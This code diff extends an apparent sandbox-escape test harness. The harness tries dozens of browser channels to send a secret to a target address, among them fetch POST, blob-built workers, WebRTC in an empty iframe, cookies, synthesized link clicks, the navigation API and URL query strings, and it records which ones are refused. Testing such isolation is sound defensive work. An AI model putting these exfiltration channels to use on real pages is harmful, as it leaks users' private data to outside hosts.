@@ -15,6 +15,13 @@ globalThis.plantedAttempts = async (target) => {
     object.addEventListener(fails, () => done('refused'));
   });
 
+  // Of another origin none may be loaded anyway: its text is made here, and asks.
+  const worker = (kind) => {
+    const text = `fetch('${address('worker')}', { mode: 'no-cors' }); globalThis.postMessage?.(1)`;
+    const made = new kind(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
+    return heard(made.port ?? made, 'message', 'error');
+  };
+
   await attempt('fetch', async () => { await fetch(address('fetch'), { mode: 'no-cors', method: 'POST', body: secret }); });
   await attempt('fetch that outlives the page', async () => { await fetch(address('keepalive'), { mode: 'no-cors', keepalive: true }); });
   await attempt('XMLHttpRequest', () => {
@@ -29,10 +36,7 @@ globalThis.plantedAttempts = async (target) => {
   await attempt('WebTransport', async () => { await new WebTransport(address('transport').replace('http:', 'https:')).ready; });
   if (globalThis.importScripts) {
     await attempt('importScripts', async () => { importScripts(address('script')); });
-    await attempt('a worker in a worker', () => {
-      const worker = new Worker(address('worker'));
-      return heard(worker, 'message', 'error');
-    });
+    await attempt('a worker in a worker', () => worker(Worker));
     return outcomes;
   }
 
@@ -76,8 +80,8 @@ globalThis.plantedAttempts = async (target) => {
     return silent();
   });
   await attempt('manifest', () => { element('link', { rel: 'manifest', href: address('manifest') }); return silent(); });
-  await attempt('worker', () => heard(new Worker(address('worker')), 'message', 'error'));
-  await attempt('shared worker', () => heard(new SharedWorker(address('shared')), 'message', 'error'));
+  await attempt('worker', () => worker(Worker));
+  await attempt('shared worker', () => worker(SharedWorker));
   await attempt('service worker', async () => { await navigator.serviceWorker.register(address('service')); });
   await attempt('ping of a link', () => {
     element('a', { href: '#/v1', ping: address('ping') }).click();
@@ -89,9 +93,44 @@ globalThis.plantedAttempts = async (target) => {
     connection.createDataChannel('planted');
     await connection.setLocalDescription();
   });
+  await attempt('WebRTC of an empty frame', async () => {
+    const frame = element('iframe', {});
+    const connection = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(target).host}` }] });
+    connection.createDataChannel('planted');
+    await connection.setLocalDescription();
+  });
+  await attempt('fetch of an empty frame', async () => {
+    await element('iframe', {}).contentWindow.fetch(address('of-a-frame'), { mode: 'no-cors' });
+  });
+  await attempt('frame in markup', () => {
+    element('p', {}).innerHTML = `<iframe src="${address('markup')}"></iframe>`;
+    return silent();
+  });
+  await attempt('cookie', async () => {
+    document.cookie = `log=${secret}`;
+    if (!document.cookie.includes(secret)) throw new Error('not kept');
+  });
+  await attempt('icon', () => { element('link', { rel: 'icon', href: address('icon') }); return silent(); });
+  await attempt('preconnect', () => { element('link', { rel: 'preconnect', href: target }); return silent(); });
+  await attempt('link in a new window', () => {
+    Object.assign(document.createElement('a'), { href: address('blank'), target: '_blank' }).click();
+    return silent();
+  });
+  await attempt('click that is made', () => {
+    const link = element('a', { href: address('dispatched'), target: '_blank' });
+    link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, ctrlKey: true }));
+    return silent();
+  });
   await attempt('link to elsewhere', () => { element('a', { href: address('link') }).click(); return silent(); });
   await attempt('file saved from elsewhere', () => { element('a', { href: address('download'), download: 'x' }).click(); return silent(); });
   await attempt('refresh', () => { element('meta', { httpEquiv: 'refresh', content: `0;url=${address('refresh')}` }); return silent(); });
+  await attempt('replaced address', () => { location.replace(address('replace')); return silent(); });
+  await attempt('navigation by its interface', async () => { await navigation.navigate(address('navigate')).committed; });
+  await attempt('address with a question', async () => {
+    const own = `${location.href.split('#')[0]}?${secret}`;
+    history.replaceState(null, '', own);
+    if (!location.href.includes(secret)) throw new Error('not taken');
+  });
   await attempt('navigation', () => { location.href = address('navigation'); return silent(); });
   return outcomes;
 };
